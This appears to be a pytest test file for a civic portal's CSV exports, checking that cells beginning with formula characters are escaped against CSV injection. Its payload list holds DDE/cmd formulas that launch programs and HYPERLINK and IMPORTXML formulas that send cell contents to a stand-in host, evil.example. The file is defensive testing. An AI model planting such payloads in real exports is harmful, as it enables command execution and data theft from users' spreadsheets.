"""CSV injection (OWASP): no cell of any CSV the portal writes starts a spreadsheet formula."""
import csv
import io

import pytest

from portal.opendata.exports import to_csv

# OWASP's CSV injection examples and the usual variants of them.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: click here\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=1+1",
    "+1+1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "=1+1\";=2+2",
    "a,=1+1",
    "a;=1+1",
    "＝1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str) -> None:
    for cell in _cells(text):
        assert not cell.lstrip(" ").startswith(TRIGGERS), repr(cell)
    for line in text.split("\r\n"):
        # Every field quoted: a spreadsheet using ; as separator cannot split a cell in two.
        assert not line or line.startswith('"'), repr(line)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_writer_neutralises_every_payload(payload):
    text = to_csv([{"title": payload, "count": 3, "name": payload}])
    _assert_safe(text)
    row = list(csv.DictReader(io.StringIO(text)))[0]
    # The text is kept, shown as text; a payload after a separator is safe inside its quoted cell.
    expected = "'" + payload if payload.lstrip(" ").startswith(TRIGGERS) else payload
    assert row["title"] == expected
    assert row["count"] == "3"


def test_ordinary_cells_are_unchanged():
    row = list(csv.DictReader(io.StringIO(to_csv([{"title": "Cykelväg, Limhamn", "n": -4, "x": "a=b"}]))))[0]
    assert row == {"title": "Cykelväg, Limhamn", "n": "-4", "x": "a=b"}


def test_open_data_and_statistics_csv_are_neutralised(client, db, make_proposal, make_user):
    from portal.opendata.report import PUBLIC
    from portal.profile.models import District
    fosie = db.session.scalar(db.select(District).where(District.slug == "fosie"))
    fosie.name = "=HYPERLINK(\"http://evil.example\",\"Fosie\")"
    for i, payload in enumerate(PAYLOADS[:8]):
        make_proposal(title=payload[:120], author=make_user(name=f"=HYPERLINK(\"x\") {i}"), district="fosie")
    db.session.commit()
    text = client.get("/open-data/proposals.csv").get_data(as_text=True)
    assert "HYPERLINK" in text
    _assert_safe(text)
    for chart in PUBLIC:
        r = client.get(f"/statistics/{chart}.csv")
        assert r.status_code == 200, chart
        _assert_safe(r.get_data(as_text=True))
    assert "evil.example" in client.get("/statistics/per_district.csv").get_data(as_text=True)
